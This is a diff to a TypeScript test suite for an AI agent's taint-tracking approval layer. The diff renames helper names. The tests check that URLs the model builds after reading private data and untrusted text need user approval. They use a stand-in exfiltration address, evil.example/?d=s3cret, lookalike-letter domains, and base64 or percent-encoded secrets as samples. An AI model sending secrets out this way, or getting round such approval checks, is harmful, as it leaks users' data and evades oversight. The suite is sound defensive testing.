@@ -7,7 +7,7 @@ import * as Effect from "effect/Effect"
 import * as Result from "effect/Result"
 import * as Schema from "effect/Schema"
 import type { Call, Provenance } from "../src/index.ts"
-import { type Answer, asked, Done, done, fake, holding, prior, world } from "./Harness.ts"
+import { type Answer, requestFor, Done, done, fake, holding, prior, world } from "./Harness.ts"
 
 const address = "https://given.example/"
 const made = "https://evil.example/?d=s3cret"
@@ -60,7 +60,7 @@ const setUp = (options: {
         return done
       })
   })
-  const { end, told } = world({
+  const { end, records } = world({
     tools: [tool],
     context: holding(Capability.NetworkRead),
     provenance,
@@ -69,8 +69,8 @@ const setUp = (options: {
     secrets: options.secrets ?? []
   })
   const go = (url: string, note = "", before: Call.Prior | null = null) =>
-    end({ ...asked("go", { url, note }, before), labels: options.labels ?? both })
-  return { go, log, told }
+    end({ ...requestFor("go", { url, note }, before), labels: options.labels ?? both })
+  return { go, log, records }
 }
 
 const everything = (["go", 'go url=https://evil.example/?d=s3cret note=""', "*"] as const).map((text) =>
@@ -80,16 +80,16 @@ const everything = (["go", 'go url=https://evil.example/?d=s3cret note=""', "*"]
 describe("Taint", () => {
   it.effect("an unapproved host needs an approval, which names the labels of the session and the destination", () =>
     Effect.gen(function* () {
-      const { go, log, told } = setUp({})
+      const { go, log, records } = setUp({})
       const { outcome, receipt } = yield* go(made)
       assert.strictEqual(outcome._tag, "Succeeded")
       assert.strictEqual(
-        told.asked[0].reason,
+        records.requests[0].reason,
         "this address was made by the model after it read private data (read_file: Read 3 lines of .env) and untrusted text: " +
           `${made}; yes opens evil.example to this session and those below it`
       )
-      assert.isFalse(told.asked[0].everyTime)
-      assert.strictEqual(told.asked[0].call.newHost?.host, "evil.example:443")
+      assert.isFalse(records.requests[0].everyTime)
+      assert.strictEqual(records.requests[0].call.newHost?.host, "evil.example:443")
       assert.strictEqual(receipt?.authority._tag, "User")
       assert.strictEqual(log.at(-1), "gone")
     })
@@ -99,9 +99,9 @@ describe("Taint", () => {
     Effect.gen(function* () {
       const count = (labels: ReadonlyArray<Protocol.Label>) =>
         Effect.gen(function* () {
-          const { go, told } = setUp({ labels })
+          const { go, records } = setUp({ labels })
           yield* go(made)
-          return told.asked.length
+          return records.requests.length
         })
       assert.deepStrictEqual([yield* count([]), yield* count(["untrusted"]), yield* count(["private"])], [0, 0, 1])
     })
@@ -113,9 +113,9 @@ describe("Taint", () => {
       Effect.gen(function* () {
         const asks = (url: string) =>
           Effect.gen(function* () {
-            const { go, told } = setUp({})
+            const { go, records } = setUp({})
             yield* go(url)
-            return told.asked.length
+            return records.requests.length
           })
         for (const url of [
           "https://agreed.example/?d=s3cret",
@@ -138,10 +138,10 @@ describe("Taint", () => {
 
   it.effect("an address outside of the web is asked about each time, and approves nothing", () =>
     Effect.gen(function* () {
-      const { go, told } = setUp({ labels: ["private"] })
+      const { go, records } = setUp({ labels: ["private"] })
       yield* go("nowhere s3cret")
       assert.deepStrictEqual(
-        told.asked.map(({ call, everyTime }) => [everyTime, call.newHost]),
+        records.requests.map(({ call, everyTime }) => [everyTime, call.newHost]),
         [[true, null]]
       )
     })
@@ -149,9 +149,9 @@ describe("Taint", () => {
 
   it.effect("lookalike letters are shown encoded, in the reason and in the unchecked parts", () =>
     Effect.gen(function* () {
-      const { go, told } = setUp({ labels: ["private"] })
+      const { go, records } = setUp({ labels: ["private"] })
       yield* go("http://\u0430\u0440\u0440\u04cf\u0435.com/login")
-      const [{ preview, reason }] = told.asked
+      const [{ preview, reason }] = records.requests
       for (const text of [reason, preview.render]) {
         assert.include(text, "http://xn--80ak6aa92e.com/login (in its own letters \u0430\u0440\u0440\u04cf\u0435.com)")
       }
@@ -164,23 +164,23 @@ describe("Taint", () => {
       const rules = (text: string) => ({ rules: [Result.getOrThrow(RuleText.parse(text))], approve: "ask" }) as const
       const free = setUp({ labels: ["private"], policy: rules("go host=evil.example") })
       assert.deepStrictEqual((yield* free.go(made)).receipt?.authority, { _tag: "Rule", rule: "go host=evil.example" })
-      assert.deepStrictEqual([free.told.asked.length, free.log], [0, ["looked up", "gone"]])
+      assert.deepStrictEqual([free.records.requests.length, free.log], [0, ["looked up", "gone"]])
       const other = setUp({ labels: ["private"], policy: rules("go host=other.example"), answers: [{ deny: null }] })
       yield* other.go(made)
-      assert.deepStrictEqual([other.told.asked.length, other.log], [1, []])
+      assert.deepStrictEqual([other.records.requests.length, other.log], [1, []])
     })
   )
 
   it.effect("a rule that names the host also allows text, whatever was read, and no secret in it", () =>
     Effect.gen(function* () {
       const policy = { rules: [Result.getOrThrow(RuleText.parse("go host=evil.example"))], approve: "ask" } as const
-      const { go, log, told } = setUp({ policy, secrets: ["k3y-of-the-house"] })
+      const { go, log, records } = setUp({ policy, secrets: ["k3y-of-the-house"] })
       assert.strictEqual((yield* go(made, "what I have read")).outcome._tag, "Succeeded")
       for (const hidden of ["k3y-of-the-house", "azN5LW9mLXRoZS1ob3VzZQ==", "k3y%2Dof%2Dthe%2Dhouse"]) {
         const { outcome } = yield* go(made, `see ${hidden}`)
         assert.strictEqual(outcome._tag === "Rejected" || outcome._tag === "Failed", true, hidden)
       }
-      assert.deepStrictEqual([told.asked.length, log], [0, ["looked up", "gone"]])
+      assert.deepStrictEqual([records.requests.length, log], [0, ["looked up", "gone"]])
     })
   )
 
@@ -197,10 +197,10 @@ describe("Taint", () => {
 
   it.effect("resolves no name before an approval, since the owner of the name would see it", () =>
     Effect.gen(function* () {
-      const { go, log, told } = setUp({ answers: [{ deny: "not there" }] })
+      const { go, log, records } = setUp({ answers: [{ deny: "not there" }] })
       const { outcome } = yield* go(made)
       assert.deepStrictEqual(log, [])
-      assert.include(told.asked[0].preview.render, made)
+      assert.include(records.requests[0].preview.render, made)
       const error = outcome._tag === "Rejected" ? outcome.error : null
       assert.strictEqual(error?._tag === "PermissionDenied" ? error.userMessage : null, "not there")
     })
@@ -208,16 +208,16 @@ describe("Taint", () => {
 
   it.effect("a fact that is found after the decision is asked about again, and granted only then", () =>
     Effect.gen(function* () {
-      const { go, log, told } = setUp({ raise: true, answers: ["approve", { deny: null }] })
+      const { go, log, records } = setUp({ raise: true, answers: ["approve", { deny: null }] })
       assert.strictEqual((yield* go(made)).outcome._tag, "Rejected")
       assert.deepStrictEqual(
-        told.asked.map(({ call, preview }) => [call.tier, preview.render.split("\n")[0], call.grants.length]),
+        records.requests.map(({ call, preview }) => [call.tier, preview.render.split("\n")[0], call.grants.length]),
         [
           ["ReadOnly", "go", 0],
           ["Elevated", `to ${made}`, 1]
         ]
       )
-      assert.match(told.asked[1].reason, /^it is near; this address was made by the model/)
+      assert.match(records.requests[1].reason, /^it is near; this address was made by the model/)
       assert.notInclude(log, "gone")
       assert.strictEqual((yield* setUp({ raise: true }).go(made)).outcome._tag, "Succeeded")
     })
@@ -226,9 +226,9 @@ describe("Taint", () => {
   it.effect("no rule without a host and no configuration replaces the user's decision", () =>
     Effect.gen(function* () {
       for (const approve of ["ask", "allow"] as const) {
-        const { go, told } = setUp({ policy: { rules: everything, approve } })
+        const { go, records } = setUp({ policy: { rules: everything, approve } })
         yield* go(made)
-        assert.strictEqual(told.asked.length, 1)
+        assert.strictEqual(records.requests.length, 1)
       }
       const { go, log } = setUp({ policy: { rules: everything, approve: "deny" } })
       assert.strictEqual((yield* go(made)).outcome._tag, "Rejected")
@@ -243,16 +243,16 @@ describe("Taint", () => {
         const free = setUp({})
         yield* free.go(address, "the weather")
         yield* free.go(address)
-        assert.deepStrictEqual(free.told.asked, [])
+        assert.deepStrictEqual(free.records.requests, [])
         for (const setting of [{}, { labels: ["private"] }] as const) {
-          const { go, told } = setUp(setting)
+          const { go, records } = setUp(setting)
           yield* go(address, "s3cret")
           yield* go("https://agreed.example/", "s3cret")
           assert.deepStrictEqual(
-            told.asked.map(({ call, everyTime }) => [call.newHost?.host, everyTime]),
+            records.requests.map(({ call, everyTime }) => [call.newHost?.host, everyTime]),
             [["given.example:443", false]]
           )
-          assert.include(told.asked[0].reason, "this request was made by the model after it read private data")
+          assert.include(records.requests[0].reason, "this request was made by the model after it read private data")
         }
       })
   )
@@ -269,17 +269,17 @@ describe("Taint", () => {
         output: Done,
         execute: () => Effect.succeed(done)
       })
-      const { end, told } = world({
+      const { end, records } = world({
         tools: [silent],
         context: holding(Capability.NetworkRead),
         provenance,
         answers: ["approve"]
       })
-      yield* end({ ...asked("silent", { url: address }), labels: both })
-      yield* end({ ...asked("silent", { url: address }), labels: ["private"] })
-      yield* end({ ...asked("silent", { url: address }), labels: ["untrusted"] })
+      yield* end({ ...requestFor("silent", { url: address }), labels: both })
+      yield* end({ ...requestFor("silent", { url: address }), labels: ["private"] })
+      yield* end({ ...requestFor("silent", { url: address }), labels: ["untrusted"] })
       assert.deepStrictEqual(
-        told.asked.map(({ everyTime }) => everyTime),
+        records.requests.map(({ everyTime }) => everyTime),
         [true, true]
       )
     })
@@ -304,9 +304,9 @@ describe("Taint", () => {
             ...(ownerOnly ? ({ ownerOnly: true } as const) : {})
           }
           const context = ToolContext.provide(ToolContext.empty("Main"), Capability.Channel, provided)
-          const { end, told } = world({ tools: [sendMessage], context, provenance, answers: ["approve"] })
-          yield* end({ ...asked("tell", { text: "s3cret" }), labels: both })
-          return told.asked.length
+          const { end, records } = world({ tools: [sendMessage], context, provenance, answers: ["approve"] })
+          yield* end({ ...requestFor("tell", { text: "s3cret" }), labels: both })
+          return records.requests.length
         })
       assert.deepStrictEqual([yield* asks(true), yield* asks(false)], [0, 1])
     })
@@ -328,9 +328,9 @@ describe("Taint", () => {
         ...ToolContext.constant(fake<Channel.Channel["Service"]>({})),
         ownerOnly: true
       })
-      const { end, told } = world({ tools: [sendMessage], context: own, provenance, answers: ["approve"] })
-      yield* end({ ...asked("tell_and_send", { text: "s3cret" }), labels: both })
-      assert.match(told.asked[0]?.reason ?? "", /^this text was made by the model/)
+      const { end, records } = world({ tools: [sendMessage], context: own, provenance, answers: ["approve"] })
+      yield* end({ ...requestFor("tell_and_send", { text: "s3cret" }), labels: both })
+      assert.match(records.requests[0]?.reason ?? "", /^this text was made by the model/)
     })
   )
 
@@ -338,22 +338,22 @@ describe("Taint", () => {
     Effect.gen(function* () {
       const near = setUp({ raise: true })
       yield* near.go(address)
-      assert.deepStrictEqual(near.told.ended[0].labels, ["untrusted", "private"])
+      assert.deepStrictEqual(near.records.ended[0].labels, ["untrusted", "private"])
       const far = setUp({})
       yield* far.go(address)
-      assert.deepStrictEqual(far.told.ended[0].labels, ["untrusted"])
+      assert.deepStrictEqual(far.records.ended[0].labels, ["untrusted"])
     })
   )
 
   it.effect("an approved and started call is asked about again, and runs with its grant", () =>
     Effect.gen(function* () {
-      const { go, log, told } = setUp({ raise: true, answers: ["approve"] })
+      const { go, log, records } = setUp({ raise: true, answers: ["approve"] })
       const user = { _tag: "User", approvalId: Protocol.ApprovalId.make("approval-0"), principal: "ana" } as const
       const { outcome } = yield* go(made, "", prior({ url: made, note: "" }, { authority: user }))
       assert.strictEqual(outcome._tag, "Succeeded")
-      assert.lengthOf(told.asked, 1)
+      assert.lengthOf(records.requests, 1)
       assert.deepStrictEqual(
-        [log, told.started[0].grants.length],
+        [log, records.started[0].grants.length],
         [["looked up", "previewed", "looked up", "previewed", "gone"], 1]
       )
     })
